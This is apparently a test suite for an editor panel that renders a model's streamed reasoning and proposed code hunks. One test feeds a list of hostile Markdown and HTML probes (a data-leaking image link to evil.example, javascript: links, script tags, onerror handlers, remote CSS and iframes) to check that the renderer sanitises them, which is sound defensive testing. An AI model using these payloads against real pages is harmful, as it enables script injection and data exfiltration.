import assert from "node:assert/strict";
import { afterEach, beforeEach, test } from "node:test";
import type { LogEvent } from "../../src/core/events.ts";
import { nothingReported } from "../../src/core/provider.ts";
import { openPanelPage, type PanelPage } from "../support/panelPage.ts";

const start: LogEvent = {
  type: "run-start",
  at: 0,
  run: "r1",
  startedAt: 0,
  instruction: "Split it",
  target: "src/cart.ts 41–88",
  model: "gpt-5.5",
  effort: { asked: "xhigh", sent: "high", note: "gpt-5.5 has no xhigh; sent high." },
};
const reasoning = (text: string, part = 0): LogEvent => ({
  type: "reasoning-delta",
  at: 800,
  part,
  provenance: "summary",
  text,
});
const hunk = (id: string, line: number) => ({ id, start: line, removed: [`old ${id}`], added: [`new ${id}`, "more"] });
const placed: LogEvent = { type: "edit-placed", at: 900, edit: 0, hunks: [hunk("a", 3), hunk("b", 9)] };
const finished: LogEvent = { type: "run-end", at: 1000, outcome: { kind: "finished" } };

let panel: PanelPage;

beforeEach(async () => {
  panel = await openPanelPage();
});

afterEach(() => panel.close());

/** Waits for what no text in the page tells. */
async function until(isSo: () => Promise<boolean>): Promise<void> {
  for (let frame = 0; frame < 300; frame += 1) {
    if (await isSo()) return;
    await panel.page.evaluate("new Promise((resolve) => requestAnimationFrame(resolve))");
  }
  assert.fail("It did not come about within 300 frames.");
}

test("it asks for the log once, and says what to do before there is a run", async () => {
  assert.deepEqual(await panel.sent(), [{ type: "ready" }]);
  await panel.tell({ type: "log", events: [], now: 0 });
  await panel.page.getByRole("button", { name: "Refactor Selection…" }).click();
  assert.deepEqual((await panel.sent()).at(-1), { type: "command", command: "refactor-selection" });
});

test("an unset effort says that nothing was sent, and that this is not none", async () => {
  const effort = { asked: "unset", sent: undefined } as const;
  await panel.tell({ type: "log", events: [{ ...start, effort }], now: 0 });
  const shown = panel.page.locator("header .effort");
  await shown.getByText("unset → nothing sent").waitFor();
  assert.match((await shown.getAttribute("title")) ?? "", /model's own default holds/);
});

test("Answer Now is offered while a model elsewhere reasons, and not for one that answers at once", async () => {
  const answerNow = panel.page.getByRole("button", { name: "Answer Now" });
  const sent = (origin: string | undefined): LogEvent => ({ type: "request-sent", at: 0, origin, parameter: "" });
  await panel.tell({ type: "log", events: [start, sent("https://api.openai.com"), reasoning("Hm.")], now: 0 });
  await answerNow.waitFor();
  await panel.tell({ type: "log", events: [start, sent(undefined), reasoning("Hm.")], now: 0 });
  await answerNow.waitFor({ state: "hidden" });
});

test("the heading of the hunks says how they were decided", async () => {
  const view = (id: string, state: "pending" | "rejected" | "accepted") => ({ ...hunk(id, 1), line: 1, state });
  const decided = (...states: readonly ("pending" | "rejected" | "accepted")[]): LogEvent => ({
    type: "review-changed",
    at: 1000,
    hunks: states.map((state, at) => view(`${at}`, state)),
  });
  const heading = panel.page.locator(".lower .heading .label").first();
  for (const [event, words] of [
    [decided("rejected", "rejected"), "2 of 2 rejected"],
    [decided("rejected", "pending"), "1 of 2 rejected, 1 to review"],
    [decided("accepted", "rejected"), "1 of 2 accepted, 1 rejected"],
    [decided("pending", "pending"), "2 to review"],
  ] as const) {
    await panel.tell({ type: "log", events: [start, placed, finished, event], now: 1000 });
    await heading.getByText(words, { exact: true }).waitFor();
  }
});

test("a clamped effort shows asked → sent, and why", async () => {
  await panel.tell({ type: "log", events: [start], now: 0 });
  await panel.page.getByText("xhigh → high").waitFor();
  await panel.page.getByText("gpt-5.5 has no xhigh; sent high.").waitFor();
});

test("every character of streamed reasoning arrives, whatever it looks like and however it is cut", async () => {
  await panel.tell({ type: "log", events: [start], now: 0 });
  const text =
    // biome-ignore lint/suspicious/noTemplateCurlyInString: Markdown that quotes a template is what is tested.
    "a < b && c > d, `x<T>()` and <b>html</b> & ${value} costs $5 or $6; arr[0](x), snake_case, 2 * 3 * 4, \\d+ &amp;\n\n  indented  twice\n\n- item <img src=x>\n- **bold** and _slanted_\n\n```ts\nconst a = `${b}`;\n```\n" +
    `${">".repeat(60)} deep\n`;
  for (const character of text) await panel.events(reasoning(character));
  await panel.events(finished);
  const shown = panel.page.locator(".reasoning");
  await shown.getByText("bold").waitFor();
  await shown.getByText("deep").waitFor();
  // What is markup may go: emphasis, bullets, fences and the language that a fence names.
  const plain = (value: string) => value.replace("```ts", "").replace(/[\s*_`-]/g, "");
  assert.equal(plain((await shown.locator(".model").allTextContents()).join("")), plain(text));
});

const probes = [
  "![x](https://evil.example/?d=SECRET)",
  "[click](https://evil.example)",
  "[click](command:workbench.action.quit)",
  "[click](javascript:alert(1))",
  "[click][ref]\n\n[ref]: https://evil.example",
  "<https://evil.example>",
  "https://evil.example/auto",
  "<img src=https://evil.example/i.png onerror=alert(1)>",
  "<script>window.pwned=1</script>",
  "<svg><image href=https://evil.example/s.svg></svg>",
  "<style>@import 'https://evil.example/c.css'</style>",
  "<iframe src=https://evil.example></iframe>",
  "<form action=https://evil.example><input type=image src=https://evil.example/i></form>",
  "<a href=https://evil.example>a</a>",
  "<button onclick=alert(1)>Accept All</button>",
  "<div style='background:url(https://evil.example/b)' class=primary id=x>d</div>",
  "<video poster=https://evil.example/v src=https://evil.example/v></video>",
  "![x](data:text/html,<script>alert(1)</script>)",
  "- [x] task\n- [ ] open",
  "$$\\href{https://evil.example}{x}$$",
  "| a | b |\n|---|---|\n| ![x](https://evil.example/t) | <img src=https://evil.example/t2> |",
  "# [h](https://evil.example)\n> ![q](https://evil.example/q)",
];

test("hostile Markdown makes no request, no script, and nothing interactive, linked, styled or named", async () => {
  await panel.tell({ type: "log", events: [start], now: 0 });
  const before = panel.requests.length;
  await panel.page.setViewportSize({ width: 320, height: 2400 });
  for (const [part, probe] of probes.entries()) await panel.events(reasoning(`${probe}\n\n`, part));
  const unplaced: LogEvent = {
    type: "edit-unplaced",
    at: 950,
    edit: 1,
    refusal: { reason: "not-found", detail: "", quoted: probes.join("\n") },
  };
  await panel.events(
    unplaced,
    { type: "answer-delta", at: 960, text: probes.join("\n") },
    { type: "run-end", at: 1000, outcome: { kind: "refused", text: probes[7] ?? "" } },
  );
  await panel.page.locator(".outcome").waitFor();
  // The icons' font comes when the first icon is shown.
  assert.deepEqual(
    panel.requests.slice(before).filter((url) => !url.startsWith("/codicon.ttf")),
    [],
  );
  assert.deepEqual(panel.faults, []);
  assert.equal(await panel.page.evaluate("window.pwned"), undefined);
  const names = await panel.page
    .locator(".model *")
    .evaluateAll((nodes) => nodes.map((node) => [node.localName, ...node.getAttributeNames()].join(" ")));
  const allowed = new Set([
    "p",
    "h3",
    "em",
    "strong",
    "s",
    "code",
    "pre",
    "ul",
    "ol",
    "ol start",
    "li",
    "blockquote",
    "br",
    "hr",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
  ]);
  assert.deepEqual(
    [...new Set(names)].filter((name) => !allowed.has(name)),
    [],
  );
  assert.ok(names.length > 30);
  assert.match((await panel.page.locator(".reasoning").textContent()) ?? "", /\[click\]\(https:\/\/evil\.example\)/);
});

test("it follows the tail until the reader scrolls up; then a pill says that there is more, and leads there", async () => {
  await panel.tell({ type: "log", events: [start], now: 0 });
  const scroller = panel.page.locator(".scroller");
  const distance = () => scroller.evaluate((node) => node.scrollHeight - node.scrollTop - node.clientHeight);
  const lines = (from: number) => Array.from({ length: 80 }, (_, line) => `paragraph ${from + line}\n\n`).join("");
  await panel.events(reasoning(lines(0)));
  await panel.page.getByText("paragraph 78").waitFor();
  assert.ok((await distance()) < 24);
  await scroller.evaluate((node) => {
    node.scrollTop = 100;
  });
  await panel.page.getByText("paragraph 6", { exact: true }).waitFor();
  const place = () => panel.page.getByText("paragraph 6", { exact: true }).boundingBox();
  const before = await place();
  await panel.events(reasoning(lines(80)));
  const pill = panel.page.getByRole("button", { name: "↓ new reasoning" });
  await pill.waitFor();
  assert.deepEqual(await place(), before);
  await pill.click();
  await pill.waitFor({ state: "hidden" });
  assert.ok((await distance()) < 24);
});

test("hunks by keyboard: arrows move, Enter shows, A accepts, R rejects", async () => {
  await panel.tell({ type: "log", events: [start, placed, finished], now: 1000 });
  await panel.page.locator(".hunks .link").first().focus();
  await panel.page.keyboard.press("a");
  await panel.page.keyboard.press("ArrowDown");
  await panel.page.keyboard.press("r");
  await panel.page.keyboard.press("Enter");
  assert.deepEqual((await panel.sent()).slice(1), [
    { type: "hunk", hunk: "a", action: "accept" },
    { type: "hunk", hunk: "b", action: "reject" },
    { type: "hunk", hunk: "b", action: "show" },
  ]);
});

test("a changed review keeps the focus where it is", async () => {
  await panel.tell({ type: "log", events: [start, placed, finished], now: 1000 });
  await panel.page.locator(".hunks .link").nth(1).focus();
  const views = [hunk("a", 3), hunk("b", 9)].map((each) => ({
    ...each,
    line: each.start + 2,
    state: "accepted" as const,
  }));
  await panel.events({ type: "review-changed", at: 1100, hunks: views });
  await panel.page.getByText("cart.ts:12").waitFor();
  assert.equal(await panel.page.evaluate("document.activeElement.closest('li').dataset.hunk"), "b");
});

test("hunks of several files say which file each is in", async () => {
  const several: LogEvent = { ...start, target: "2 files", files: ["src/cart.ts", "src/tax.ts"] };
  const other: LogEvent = { type: "edit-placed", at: 950, edit: 1, hunks: [{ ...hunk("c", 4), file: 1 }] };
  await panel.tell({ type: "log", events: [several, other, placed, finished], now: 1000 });
  const places = panel.page.locator(".hunks .place");
  assert.deepEqual(await places.allInnerTexts(), ["cart.ts:4", "cart.ts:10", "tax.ts:5"]);
});

test("a syntax error that the hunks would add is named above them", async () => {
  await panel.tell({ type: "log", events: [start, placed, finished], now: 1000 });
  const added = [{ path: "src/cart.ts", line: 43, message: "'}' expected" }];
  await panel.events({ type: "syntax-checked", at: 1200, added, unchecked: [] });
  await panel.page.getByText("new syntax error at src/cart.ts:44: '}' expected").waitFor();
  await panel.events({ type: "syntax-checked", at: 1300, added: [], unchecked: [] });
  await panel.page.getByText("new syntax error").waitFor({ state: "hidden" });
});

test("in a narrow and low panel everything can be scrolled to", async () => {
  await panel.page.setViewportSize({ width: 165, height: 560 });
  await panel.tell({ type: "log", events: [start, reasoning("Looking at it.\n"), placed, finished], now: 1000 });
  const list = panel.page.locator(".hunks > li").last();
  await list.scrollIntoViewIfNeeded();
  const box = await list.boundingBox();
  // Scrolling is by whole pixels.
  assert.ok(box !== null && box.height > 20 && box.y >= 0 && box.y + box.height < 561, JSON.stringify(box));
  const again = panel.page.getByRole("button", { name: "Again at…" });
  await again.scrollIntoViewIfNeeded();
  assert.ok(((await again.boundingBox())?.y ?? 1_000) < 560);
});

test("a conflict offers the three ways out", async () => {
  await panel.tell({ type: "log", events: [start, placed, finished], now: 1000 });
  await panel.events({ type: "review-changed", at: 1100, hunks: [{ ...hunk("a", 3), line: 3, state: "conflict" }] });
  for (const name of ["Keep Yours", "Take Proposed", "Edit Both"])
    await panel.page.getByRole("button", { name }).click();
  assert.deepEqual(
    (await panel.sent()).slice(1).map((message) => (message.type === "hunk" ? message.action : message.type)),
    ["keep-yours", "take-proposed", "edit-both"],
  );
});

test("hunks of an interrupted run can be read, and not accepted", async () => {
  await panel.tell({
    type: "log",
    events: [start, placed, { type: "run-end", at: 14_000, outcome: { kind: "interrupted", why: "connection" } }],
    now: 14_000,
  });
  await panel.page.getByText("Interrupted after 0:14").first().waitFor();
  assert.equal(await panel.page.getByRole("button", { name: /^Accept/ }).count(), 0);
  await panel.page.getByRole("button", { name: "Lines of hunk 1" }).click();
  await panel.page.getByText("+ new a").waitFor();
});

test("that it was asked again stands in the header once", async () => {
  const again: LogEvent = { type: "retry-with-reason", at: 950, retry: 1, refused: 1, turns: [] };
  await panel.tell({ type: "log", events: [start, placed, again, finished], now: 1000 });
  const header = panel.page.locator("header");
  await header.getByText("asked again for 1 edit").waitFor();
  assert.equal((await header.innerText()).split("asked again").length, 2);
});

test("reasoning that does not show is said, with what it cost", async () => {
  await panel.tell({
    type: "log",
    events: [
      start,
      { type: "usage", at: 900, usage: { ...nothingReported, input: 10, output: 900, reasoning: 842 } },
      placed,
      finished,
    ],
    now: 1000,
  });
  await panel.page.getByText("This provider bills reasoning but does not show it (842 tokens).").waitFor();
});

test("screen readers hear milestones, and no tokens", async () => {
  const live = panel.page.locator('[aria-live="polite"]');
  await panel.tell({ type: "log", events: [start], now: 0 });
  await live.getByText("Waiting for the model").waitFor({ state: "attached" });
  await panel.events(reasoning("some thought"));
  await live.getByText("Reasoning started").waitFor({ state: "attached" });
  await panel.events(placed, finished);
  await live.getByText("2 hunks ready to review").waitFor({ state: "attached" });
  assert.doesNotMatch((await live.textContent()) ?? "", /some thought/);
});

/** The words of the whole panel, and the elements of the model's text. */
async function shown(): Promise<readonly string[]> {
  const models = await panel.page.locator(".model").evaluateAll((nodes) => nodes.map((node) => node.innerHTML));
  return [await panel.page.locator("main:visible").innerText(), ...models];
}

test("a log told again shows the same as the stream did", async () => {
  const events: LogEvent[] = [
    start,
    reasoning("First **part**.\n"),
    reasoning("Second part.", 1),
    reasoning(" It goes on.", 1),
    placed,
    finished,
  ];
  await panel.tell({ type: "log", events: [start], now: 0 });
  for (const event of events.slice(1)) await panel.events(event);
  await panel.page.getByText("2 hunks ready to review").waitFor({ state: "attached" });
  const streamed = await shown();
  await panel.tell({ type: "log", events, now: 1000 });
  await until(async () => (await panel.page.locator(".passage").count()) === 2);
  assert.deepEqual(await shown(), streamed);
});

test("twenty thousand deltas are all there, and only what is in view is in the page", async () => {
  await panel.tell({ type: "log", events: [start], now: 0 });
  const words = Array.from({ length: 20_000 }, (_, count) => `w${count} `);
  for (let at = 0; at < words.length; at += 500)
    await panel.events(...words.slice(at, at + 500).map((word) => reasoning(word)));
  await panel.events(finished);
  await panel.page.getByText("w19999").waitFor();
  assert.ok((await panel.page.locator(".passage").count()) < 8);
  const shown = await panel.pagedThrough();
  // Compared apart from the assertion, which would print both.
  const same = shown.join(" ").trim() === words.join("").trim();
  assert.ok(same, `${shown.join(" ").length} characters are shown`);
});

test("however much a message brings, the page is laid out once for it", async () => {
  await panel.tell({ type: "log", events: [start], now: 0 });
  const tools = await panel.page.context().newCDPSession(panel.page);
  await tools.send("Performance.enable");
  const layouts = async () => {
    const { metrics } = await tools.send("Performance.getMetrics");
    return metrics.find(({ name }) => name === "LayoutCount")?.value ?? Number.NaN;
  };
  const paragraphs = (from: number) =>
    Array.from({ length: 20 }, (_, at) => `Paragraph ${from + at}: **${"word ".repeat(at)}**\n\n`).join("");
  await panel.events(reasoning(paragraphs(0)));
  await panel.page.getByText("Paragraph 18:").waitFor();
  const before = await layouts();
  const messages = 50;
  for (let message = 1; message <= messages; message += 1) {
    await panel.events(reasoning(paragraphs(20 * message)));
    await panel.page.evaluate("new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))");
  }
  await panel.page.getByText(`Paragraph ${20 * messages + 18}:`).waitFor();
  // The first few may be guessed too high, and looked at twice.
  assert.ok((await layouts()) - before <= messages * 1.5, `${(await layouts()) - before} for ${messages} messages`);
});
